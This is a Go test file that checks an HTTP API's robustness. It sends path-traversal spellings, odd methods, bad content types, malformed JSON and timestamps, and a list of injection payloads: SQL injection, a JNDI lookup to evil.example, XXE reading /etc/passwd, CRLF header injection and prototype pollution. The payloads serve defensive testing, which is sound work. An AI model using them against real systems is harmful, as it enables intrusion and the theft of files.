package httpapi_test

import (
	"bytes"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/google/uuid"

	"triprize/internal/testkit/fleet"
)

// insides are words, in lower case, that only we should read: they have no place in
// an answer.
var insides = strings.Split(`goroutine |.go:|runtime error|panic|sqlstate|pgx|strconv.|unmarshal|invalid character|invalid byte|`+
	`unexpected e|parsing |cannot parse|multipart: |buffer size|contents:|net/http|fiber|dial tcp|syntax error|url escape|separator|hex number|crlf at`, "|")

// harmless wants an answer to give nothing away, and a refusal to be a whole problem.
func harmless(t *testing.T, what string, a fleet.Answer) {
	t.Helper()
	switch {
	case a.Err != nil:
		t.Errorf("%s: %v", what, a.Err)
	case a.Status >= 500:
		t.Errorf("%s: %v %s", what, a, a.Body)
	case a.Status >= 400 && len(a.Body) > 0:
		fleet.CheckProblem(t, a)
	}
	lower := bytes.ToLower(a.Body)
	for _, word := range insides {
		if bytes.Contains(lower, []byte(word)) {
			t.Errorf("%s: the answer tells %q: %s", what, word, a.Body)
		}
	}
}

// hostile are texts that mean something to some language; to us they are text.
var hostile = []string{
	`'; DROP TABLE campaigns; --`, `' OR '1'='1`, `\'; TRUNCATE jobs; --`, `") OR ("1"="1`, `$1`, `%s%n%d%v`, `{{7*7}}`, `${jndi:ldap://evil.example/a}`,
	`"},"role":"operator","a":{"b":"`, `<script>alert(1)</script>`, `../../etc/passwd`, `a/b?c=d&e#f`, "\u202e\u2028\ufeff", "🙂", `*`, `\`, `null`, `__proto__`,
}

func TestNoSpellingOfAPathLeadsAroundItsGuard(t *testing.T) {
	t.Parallel()
	s := fleet.Shared(t, quiet)
	for _, path := range []string{
		"/v1/../v1/campaigns", "/v1/%2e%2e/v1/campaigns", "/v1/./campaigns", "//v1/campaigns", "/v1//campaigns", "/v1/campaigns//", "/v1/campaigns/", "/v1/campaigns%00",
		"/v1/campaigns%20", "/v1%2fcampaigns", "/v1%5ccampaigns", `/v1\campaigns`, "/v1/campaigns;a=b", "/v1/campaigns.json", "/V1/Campaigns", "/%76%31/campaigns", "/v1/campaigns%",
		"/v1/campaigns/%c0%ae%c0%ae", "/v1/campaigns/%ff", "/v1/users/%ff/purchases", "/v1/users/%c0%ae/purchases", "/v1/users/%ed%a0%80/purchases", "/v1/users/%zz/purchases",
		"/v1/users/%00/purchases", "/v1/users//purchases", "/v1/users/a%0d%0aSet-Cookie:%20a=b/purchases", "/v1/users/" + strings.Repeat("a", 129) + "/purchases",
		"/v1/campaigns?state=", "/v1/campaigns?cursor=", "/v1/campaigns?limit=", "/v1/campaigns?limit=1&limit=2", "/v1/campaigns?limit=007", "/v1/campaigns?limit=%2b5",
		"/v1/campaigns?limit=5%00", "/v1/campaigns?limit=9223372036854775808", "/v1/campaigns?state=active;limit=1", "/v1/campaigns?%zz", "/v1/campaigns?state=%ff",
		"/v1/campaigns?state[]=active&state=active,pending", "/v1/campaigns?cursor=" + strings.Repeat("0", 2000), "/problems/../v1/campaigns", "/problems/%2e%2e%2fv1", "/ASYNQMON", "//asynqmon/api/queues",
		"/%61synqmon", "/asynqmon%2fapi/queues", "/asynqmon;/api/queues", "/asynqmon/../v1/campaigns", "/asynqmon/..%2f..%2fetc/passwd", "/METRICS", "/healthz/..", "*", "campaigns", "/;",
		"http://other.example/asynqmon", "http://user:password@other.example/asynqmon/api/queues",
	} {
		for who, key := range map[string]string{"nobody": "", "an operator": "Authorization: Bearer " + s.Operator + "\r\n"} {
			answers := wire(s, path, "GET "+path+" HTTP/1.1\r\nHost: api\r\n"+key+"\r\n")
			if len(answers) != 1 || answers[0].Status < 400 {
				t.Errorf("%s as %s: %v", path, who, answers)
			}
			for _, a := range answers {
				harmless(t, path, a)
			}
		}
	}
	for _, path := range []string{"/docs/../v1/campaigns", "/docs/%2e%2e/%2e%2e/etc/passwd", "/docs/../asynqmon", "/docs/..%5c..%5cetc/passwd"} { // its files are served by a library
		if answers := wire(s, path, "GET "+path+" HTTP/1.1\r\nHost: api\r\n\r\n"); len(answers) != 1 || answers[0].Status != http.StatusNotFound {
			t.Errorf("%s: %v", path, answers)
		}
	}
}

func TestMethodsThatNobodyExpectsAreProblems(t *testing.T) {
	t.Parallel()
	s := fleet.Shared(t, quiet)
	paths := []string{"/v1/campaigns", "/v1/campaigns/" + uuid.NewString(), "/v1/campaigns/" + uuid.NewString() + "/purchases", "/healthz", "/docs", "/problems", "/openapi.json", "/asynqmon", "/nothing", "*"}
	for _, method := range []string{"OPTIONS", "TRACE", "CONNECT", "PUT", "DELETE", "HEAD", "PATCH", "POST", "PROPFIND", "get", "GETT", "G\x00T", "\x16\x03", "PRI", strings.Repeat("A", 1000)} {
		for _, path := range paths {
			answers := wire(s, method+" "+path, method+" "+path+" HTTP/1.1\r\nHost: api\r\nX-HTTP-Method-Override: GET\r\nContent-Length: 0\r\n\r\n")
			if len(answers) != 1 {
				t.Errorf("%s %s: %d answers", method, path, len(answers))
				continue
			}
			a, public := answers[0], method == "HEAD" && (path == "/healthz" || path == "/docs" || path == "/problems" || path == "/openapi.json")
			harmless(t, method+" "+path, a)
			if (a.Status < 400) != public {
				t.Errorf("%s %s: %v", method, path, a)
			}
			if a.Status == http.StatusMethodNotAllowed && a.Header.Get("Allow") == "" {
				t.Errorf("%s %s: what is allowed stays unsaid: %v", method, path, a.Header)
			}
		}
	}
}

func TestOnlyJSONInUTF8IsRead(t *testing.T) {
	t.Parallel()
	s := fleet.Shared(t, quiet)
	path := "/v1/campaigns/" + s.Campaign(4).String() + "/purchases"
	for media, status := range map[string]int{
		"application/json": 202, "APPLICATION/JSON": 202, "application/json;": 202, `application/json; charset="UTF-8"`: 202, "application/json;charset=utf-8;x=y": 202,
		"application/json; charset=utf-16": 415, "application/json; charset=latin1": 415, "application/json; charset": 415, "application/json; charset=utf-8; charset=utf-16": 415,
		"application/json, text/plain": 415, "application/jsonx": 415, "application/problem+json": 415, "text/json": 415, "text/plain": 415, "json": 415, "*/*": 415, " ": 415, "a/b/c": 415,
		"application/xml": 415, "application/x-www-form-urlencoded": 415, "multipart/form-data": 415, "multipart/form-data; boundary=x": 415, strings.Repeat("a", 3000): 415,
	} {
		a := raw(s, http.MethodPost, path, goodPurchase, "", media)
		if harmless(t, media, a); a.Status != status {
			t.Errorf("%s: want %d, got %v %s", media, status, a, a.Body)
		}
	}
	for encoding, status := range map[string]int{"gzip": 415, "GZIP": 415, "gzip, gzip": 415, "identity, gzip": 415, ",,;q=0": 415, "identity": 202} {
		header := map[string]string{"Authorization": "Bearer " + s.Operator, "Content-Type": "application/json", "Idempotency-Key": uuid.NewString(), "Content-Encoding": encoding}
		wantAnswer(t, encoding, rawWith(s, http.MethodPost, path, goodPurchase, header), status)
	}
	for name, body := range map[string]string{
		"a byte order mark": "\ufeff" + goodPurchase, "UTF-16": "\xff\xfe{\x00}\x00", "a form": "user_id=a&selection[quantity]=1", "XML": `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
		"a comment": goodPurchase + "//", "one quote": strings.ReplaceAll(goodPurchase, `"`, "'"), "a comma too many": strings.Replace(goodPurchase, "}}", ",}}", 1), "NaN": strings.Replace(goodPurchase, ":1", ":NaN", 1),
		"a plus": strings.Replace(goodPurchase, ":1", ":+1", 1), "hex": strings.Replace(goodPurchase, ":1", ":0x1", 1), "another case": strings.Replace(goodPurchase, "user_id", "User_ID", 1),
		"both cases": strings.Replace(goodPurchase, `{"user_id"`, `{"USER_ID":"b","user_id"`, 1), "an escaped twin": strings.Replace(goodPurchase, `{"user_id"`, `{"user\u005fid":"b","user_id"`, 1),
		"__proto__": strings.Replace(goodPurchase, `{"user_id"`, `{"__proto__":{"user_id":"b"},"user_id"`, 1), "null": strings.Replace(goodPurchase, `"a"`, "null", 1), "overlong": strings.Replace(goodPurchase, "a", "\xc0\xaf", 1),
	} {
		a := raw(s, http.MethodPost, path, body, "", "")
		if harmless(t, name, a); a.Status != http.StatusBadRequest || a.Refusal() != "invalid-request" {
			t.Errorf("%s: %v %s", name, a, a.Body)
		}
	}
	for _, moment := range []string{
		"2030-06-30T23:59:60Z", "2030-01-01T00:00:00,5Z", "2030-01-01T00:00:00+24:00", "2030-01-01T24:00:00Z", "2030-02-30T00:00:00Z", "0000-01-01T00:00:00+14:00",
		"9999-12-31T23:59:59-14:00", "2030-01-01T00:00:00", "2030-01-01", "+2030-01-01T00:00:00Z", "infinity", "now", "2030-01-01 00:00:00Z", "20300-01-01T00:00:00Z", "",
	} {
		body := fleet.CampaignBody(3)
		body["sale_ends_at"] = moment
		a := s.Post("/v1/campaigns", body)
		if harmless(t, moment, a); a.Status != http.StatusBadRequest || !fleet.Contains(a.Body, fmt.Sprintf("%q:%q", "pointer", "/sale_ends_at")) {
			t.Errorf("the sale ends at %q: %v %s", moment, a, a.Body)
		}
	}
}
